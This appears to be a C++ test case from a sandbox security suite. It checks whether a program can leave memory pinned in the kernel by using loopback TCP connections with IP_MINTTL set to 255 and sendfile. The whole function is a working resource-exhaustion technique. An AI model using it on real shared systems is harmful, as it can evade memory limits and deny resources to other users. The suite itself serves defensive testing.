//: claim = "Data in connections whose ends ignore each other is not memory that the next program lacks."
//: status = "OK"
//: stdout = "left\n"
// An end that asks for a TTL of 255 (IP_MINTTL, ip(7)) ignores every packet of the loopback. So the kernel keeps both
// ends, and the pages that are on their way, for minutes after their processes.
#include <bits/stdc++.h>  // first: only so is its precompiled form used
#include "attack.h"

#include <netinet/ip.h>
#include <sys/sendfile.h>

void attack()
{
    const int size = 1 << 20, ttl = 255;
    sockaddr_in address = {};
    socklen_t length = sizeof address;
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int server = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(server, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0 || listen(server, 1) != 0)
        breach(strerrorname_np(errno));
    getsockname(server, reinterpret_cast<sockaddr *>(&address), &length);
    for (int i = 0; i < 30; i++) {
        int client = socket(AF_INET, SOCK_STREAM, 0), memory = memfd_create("memory", 0);
        if (connect(client, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0)
            breach(strerrorname_np(errno));
        int accepted = accept(server, nullptr, nullptr);
        for (int end : {client, accepted})
            setsockopt(end, IPPROTO_IP, IP_MINTTL, &ttl, sizeof ttl);
        fcntl(client, F_SETFL, O_NONBLOCK);
        if (ftruncate(memory, size) != 0)
            breach(strerrorname_np(errno));
        sendfile(client, memory, nullptr, size);
        close(memory);
    }
    std::cout << "left\n";
}
